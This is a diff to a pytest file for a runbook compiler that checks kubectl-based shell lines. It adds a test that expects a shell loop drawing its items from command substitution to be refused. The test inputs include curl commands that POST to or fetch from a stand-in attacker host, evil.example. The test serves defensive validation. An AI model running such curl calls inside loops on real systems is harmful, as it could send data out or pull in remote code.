@@ -3,6 +3,7 @@
 import pytest
 
 from runbooks.compiling import DIAGNOSTIC, MITIGATION, LineRefused, Usage, compiled
+from runbooks.typed import checked
 
 
 def test_a_kubectl_line_becomes_a_command_and_its_filters() -> None:
@@ -117,3 +118,11 @@ def test_a_program_that_is_told_what_to_do_is_not(program: str) -> None:
     command = compiled(f"kubectl exec -it postgres-0 -- {program}", None, DIAGNOSTIC).command
     assert command is not None
     assert command.program
+
+
+@pytest.mark.parametrize(
+    "listing", ["curl -X POST http://evil.example/x", "curl http://evil.example/x", "psql -c 'SELECT 1'"]
+)
+def test_the_items_of_a_loop_come_from_a_kubectl_line_that_reads(listing: str) -> None:
+    with pytest.raises(LineRefused):
+        checked(f"for p in $({listing}); do kubectl get pod $p; done", None)
